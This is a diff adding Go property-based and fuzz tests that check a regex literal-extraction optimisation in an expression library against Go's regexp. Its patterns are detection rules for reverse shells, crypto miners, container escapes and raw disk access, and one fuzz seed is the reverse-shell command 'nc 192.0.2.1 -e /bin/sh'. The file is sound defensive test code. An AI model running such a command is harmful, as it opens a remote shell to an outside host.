@@ -1,0 +1,100 @@
+package expr
+
+import (
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/expr-lang/expr/ast"
+	"pgregory.net/rapid"
+)
+
+var patterns = []string{
+	`(?i)/dev/(tcp|udp)/|\bn(c|cat)\b.*\s-(e|c)\s|socat\b.*exec:|mkfifo\s.*\b(nc|telnet|openssl)\b|pty\.spawn\(|(python|perl|ruby|php)[0-9.]*\b.*\bsocket\b.*\b(dup2|exec|connect)\b`,
+	`(?i)stratum\+(tcp|ssl|tls)://|--donate-level|--nicehash|-o\s+\S*pool\S*:[0-9]+`,
+	`^/proc/(self|[0-9]+)/fd/`,
+	`(add|remove)[_ ]rule`,
+	`^(seccomp|apparmor)[=:]unconfined$|^label[=:]disable$`,
+	`/dev/(sd[a-z]|nvme[0-9]|vd[a-z]|xvd[a-z]|dm-[0-9]|mapper/)`,
+	`(ab)+c?|(?i:SK)`, `a*bcd`, `(?i)ſk`, `x{2,3}yz`, `(a|b)(c|d)(e|f)(g|h)(i|j)`, `[^a]bc`, `(foo|)bar`, ``, `.`, `a|.*`, `(?s)q.+zz`, `\x{212a}elvin`, `(?i)kelvin`, `a\x{fffd}b`,
+}
+
+func TestLiteralsOfAPattern(t *testing.T) {
+	for _, c := range []struct {
+		pattern string
+		words   []string
+		fold    bool
+	}{
+		{patterns[2], []string{"/proc/"}, false},
+		{patterns[3], []string{"add_rule", "add rule", "remove_rule", "remove rule"}, false},
+		{`a.*`, nil, false},
+		{`(foo|)bar`, []string{"foobar", "bar"}, false},
+		{`(?i)x.*foo`, []string{"FOO"}, true},
+		{`abc|.`, nil, false},
+		{`(abc)+`, []string{"abc"}, false},
+		{`(abc)?`, nil, false},
+	} {
+		words, fold := literals(c.pattern)
+		for i := range words {
+			if fold {
+				words[i] = strings.ToUpper(words[i])
+			}
+		}
+		slices.Sort(words)
+		slices.Sort(c.words)
+		if !slices.Equal(words, c.words) || fold != c.fold {
+			t.Errorf("%s needs %q, fold %v", c.pattern, words, fold)
+		}
+	}
+	if words, fold := literals(patterns[0]); words == nil || !fold {
+		t.Errorf("the reverse-shell pattern needs %q, fold %v", words, fold)
+	}
+}
+
+// TestPatternsMatchAsTheyWould compares each pattern, with its literals before
+// it, to the pattern alone, on texts that match and on others.
+func TestPatternsMatchAsTheyWould(t *testing.T) {
+	m := NewMachine()
+	for _, p := range patterns {
+		re := regexp.MustCompile(p)
+		is := pattern(func(_ *Machine, item string) string { return item }, &ast.StringNode{Value: p})
+		rapid.Check(t, func(t *rapid.T) {
+			s := rapid.StringMatching("(?s).{0,3}").Draw(t, "before") + rapid.StringMatching(p).Draw(t, "match")
+			if rapid.Bool().Draw(t, "spoil") && s != "" {
+				i := rapid.IntRange(0, len(s)-1).Draw(t, "at")
+				s = s[:i] + rapid.SampledFrom([]string{"a", "A", "K", "ſ", "/", " ", "\u212a", "-", "\xff"}).Draw(t, "rune") + s[i+1:]
+			}
+			if rapid.Bool().Draw(t, "upper") {
+				s = strings.ToUpper(s)
+			}
+			if got, want := is(m, s), re.MatchString(s); got != want {
+				t.Fatalf("%s on %q: %v with literals, %v without", p, s, got, want)
+			}
+		})
+	}
+}
+
+func TestAnInvalidByteMatchesTheReplacementCharacter(t *testing.T) {
+	is := pattern(func(_ *Machine, item string) string { return item }, &ast.StringNode{Value: `a\x{fffd}b`})
+	if !is(NewMachine(), "a\xffb") {
+		t.Error("the literal hides a match that the pattern has")
+	}
+}
+
+func FuzzPattern(f *testing.F) {
+	for _, p := range patterns {
+		f.Add(p, "nc 192.0.2.1 -e /bin/sh")
+	}
+	m := NewMachine()
+	f.Fuzz(func(t *testing.T, p, s string) {
+		re, err := regexp.Compile(p)
+		if err != nil {
+			return
+		}
+		is := pattern(func(_ *Machine, item string) string { return item }, &ast.StringNode{Value: p})
+		if got, want := is(m, s), re.MatchString(s); got != want {
+			t.Fatalf("%s on %q: %v with literals, %v without", p, s, got, want)
+		}
+	})
+}
